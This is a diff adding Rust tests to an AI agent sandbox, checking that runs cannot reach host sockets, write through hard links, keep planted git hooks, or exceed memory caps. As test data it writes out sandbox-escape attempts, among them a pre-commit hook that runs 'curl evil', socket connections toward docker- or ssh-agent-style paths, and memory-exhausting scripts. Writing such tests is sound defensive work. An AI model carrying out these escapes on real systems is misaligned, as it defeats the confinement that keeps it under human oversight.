@@ -1050,3 +1050,213 @@ async fn dev_holds_only_the_sandboxs_own_devices() {
     );
     assert!(stdout.contains("no-kmsg"), "{stdout}");
 }
+
+/// A listening Unix socket at `path`, and whether anything connected to it.
+struct HostSocket {
+    listener: std::os::unix::net::UnixListener,
+    path: std::path::PathBuf,
+}
+
+impl HostSocket {
+    #[expect(clippy::unwrap_used, reason = "test setup: a failure is a failed test")]
+    fn bind(path: std::path::PathBuf) -> Self {
+        let _ = fs::remove_file(&path);
+        let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
+        listener.set_nonblocking(true).unwrap();
+        Self { listener, path }
+    }
+
+    fn was_reached(&self) -> bool {
+        !self
+            .listener
+            .accept()
+            .is_err_and(|e| e.kind() == std::io::ErrorKind::WouldBlock)
+    }
+
+    /// A script that connects and writes, printing `reached <path>` when it could.
+    fn connect_script(&self) -> String {
+        format!(
+            "python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{0}'); s.sendall(b'GET /'); print('reached {0}')\"; ",
+            self.path.display()
+        )
+    }
+}
+
+impl Drop for HostSocket {
+    fn drop(&mut self) {
+        let _ = fs::remove_file(&self.path);
+    }
+}
+
+#[tokio::test]
+async fn host_sockets_outside_run_and_tmp_are_out_of_reach() {
+    // Where a docker or ssh-agent socket, a database's, or a dev server's would be:
+    // /var/tmp, the home directory, a folder beside the workspace.
+    let pid = std::process::id();
+    let home = std::path::PathBuf::from(std::env::var("HOME").unwrap());
+    let beside = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
+    let sockets = [
+        HostSocket::bind(format!("/var/tmp/agentls-escape-{pid}.sock").into()),
+        HostSocket::bind(home.join(format!(".agentls-escape-{pid}.sock"))),
+        HostSocket::bind(beside.path().join("db.sock")),
+    ];
+    let ws = workspace(false);
+    let sb = sandbox(ws.path());
+    let script: String = sockets.iter().map(HostSocket::connect_script).collect();
+    let out = sh(&sb, &format!("{script} true")).await;
+    let all = text(&out);
+    for socket in &sockets {
+        assert!(
+            !socket.was_reached() && !all.contains(&format!("reached {}", socket.path.display())),
+            "connected to the host's {}: {all}",
+            socket.path.display()
+        );
+    }
+    // The home directory is there (empty of the host's files), and /var/tmp is the
+    // run's own /tmp.
+    let out = sh(&sb, "cd ~ && echo x > /var/tmp/mine && cat /tmp/mine").await;
+    assert_eq!(out.stdout.to_text(), "x\n", "{}", text(&out));
+}
+
+#[tokio::test]
+async fn a_socket_in_a_write_through_folder_is_out_of_reach() {
+    let ws = workspace(false);
+    let root = ws.path().canonicalize().unwrap();
+    fs::write(root.join("Cargo.toml"), "[package]\nname = \"x\"\n").unwrap();
+    fs::create_dir(root.join("target")).unwrap();
+    let socket = HostSocket::bind(root.join("target/app.sock"));
+    let sb = sandbox(&root);
+    let out = sh(
+        &sb,
+        &format!("{} echo built > target/out", socket.connect_script()),
+    )
+    .await;
+    assert!(!socket.was_reached(), "connected: {}", text(&out));
+    assert!(
+        out.warnings.iter().any(|w| w.contains("socket")),
+        "{:?}",
+        out.warnings
+    );
+    // Not bound this run, its writes still reach the disk, after the run.
+    assert_eq!(
+        fs::read_to_string(root.join("target/out")).unwrap(),
+        "built\n"
+    );
+}
+
+#[tokio::test]
+async fn a_hard_link_in_target_to_an_outside_file_is_not_written_through() {
+    // On the same filesystem as the workspace, as a hard link must be.
+    let outside = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
+    let victim = outside.path().join("victim");
+    fs::write(&victim, "precious\n").unwrap();
+    let ws = workspace(false);
+    let root = ws.path().canonicalize().unwrap();
+    fs::write(root.join("Cargo.toml"), "[package]\nname = \"x\"\n").unwrap();
+    fs::create_dir(root.join("target")).unwrap();
+    fs::hard_link(&victim, root.join("target/x")).unwrap();
+    // Links between files inside target/ (cargo's own) stay as they are.
+    fs::write(root.join("target/a"), "a\n").unwrap();
+    fs::hard_link(root.join("target/a"), root.join("target/b")).unwrap();
+    let sb = sandbox(&root);
+    let out = sh(&sb, "echo pwned >> target/x").await;
+    assert!(out.success(), "{}", text(&out));
+    assert_eq!(fs::read_to_string(&victim).unwrap(), "precious\n");
+    assert_eq!(
+        fs::read_to_string(root.join("target/x")).unwrap(),
+        "precious\npwned\n"
+    );
+    assert!(
+        out.warnings.iter().any(|w| w.contains("hard link")),
+        "{:?}",
+        out.warnings
+    );
+    use std::os::unix::fs::MetadataExt;
+    let (a, b) = (
+        fs::metadata(root.join("target/a")).unwrap(),
+        fs::metadata(root.join("target/b")).unwrap(),
+    );
+    assert_eq!((a.ino(), a.nlink()), (b.ino(), 2));
+}
+
+#[tokio::test]
+async fn a_planted_git_hook_is_dropped_and_reported() {
+    // A workspace without .git: nothing is bound read-only there.
+    let ws = workspace(false);
+    let root = ws.path().canonicalize().unwrap();
+    let sb = sandbox(&root);
+    let out = sh(
+        &sb,
+        "mkdir -p .git/hooks sub/.hg && printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit \
+         && chmod +x .git/hooks/pre-commit && echo '[hooks]' > sub/.hg/hgrc && echo ok > kept.txt",
+    )
+    .await;
+    assert!(out.success(), "{}", text(&out));
+    let paths: Vec<_> = out.changes.changes.iter().map(|c| c.path.clone()).collect();
+    assert_eq!(paths, [root.join("kept.txt")]);
+    let dropped: Vec<_> = out.changes.dropped.iter().map(|(p, _)| p.clone()).collect();
+    assert_eq!(dropped, [root.join(".git"), root.join("sub/.hg")]);
+    // The model is told, in the warnings every result carries.
+    assert!(
+        out.warnings
+            .iter()
+            .any(|w| w.contains(".git") && w.contains("version-control")),
+        "{:?}",
+        out.warnings
+    );
+    assert!(!root.join(".git").exists());
+}
+
+#[tokio::test]
+async fn without_a_cgroup_the_runs_total_memory_is_still_capped() {
+    // The supervisor's cap: three processes of 400 MiB under a 768 MiB cap, each within
+    // its per-process limit, as in `the_total_memory_of_a_run_is_capped`.
+    let ws = workspace(false);
+    let caps = reduced(|c| c.memory_cap.available = false);
+    let sb = agentls_sandbox::Sandbox::with_capabilities(
+        agentls_sandbox::SandboxConfig::new(ws.path()),
+        caps,
+    )
+    .unwrap();
+    let limits = Limits {
+        memory_bytes: Some(1 << 30),
+        total_memory_bytes: Some(768 << 20),
+        ..limits(60_000)
+    };
+    let hold = "import time; b = bytearray(400 << 20); b[::4096] = b'x' * len(b[::4096]); time.sleep(8); print('survived', flush=True)";
+    let script = format!(
+        "for i in 1 2 3; do python3 -c \"{hold}\" & done; wait; echo finished; {}",
+        print_group("memory")
+    );
+    let out = run(&sb, RunRequest::shell(&script).limits(limits.clone())).await;
+    let survived = out.stdout.to_text().matches("survived").count();
+    assert!(
+        survived < 3,
+        "all three held 400 MiB together under a 768 MiB cap: {}",
+        text(&out)
+    );
+    assert!(
+        out.warnings.iter().any(|w| w.contains("memory cap")),
+        "{:?}",
+        out.warnings
+    );
+    let denial = out.denial.as_ref().expect("a denial hint");
+    assert_eq!(denial.kind, DenialKind::Resources, "{}", denial.message);
+    // /tmp is memory too: filling it past the cap stops the run.
+    let limits = Limits {
+        total_memory_bytes: Some(384 << 20),
+        ..limits
+    };
+    let out = run(
+        &sb,
+        RunRequest::shell("dd if=/dev/zero of=/tmp/big bs=1M count=800 2>&1; echo dd=$?")
+            .limits(limits),
+    )
+    .await;
+    assert!(!text(&out).contains("dd=0"), "{}", text(&out));
+    assert!(
+        out.warnings.iter().any(|w| w.contains("memory cap")),
+        "{:?}",
+        out.warnings
+    );
+}
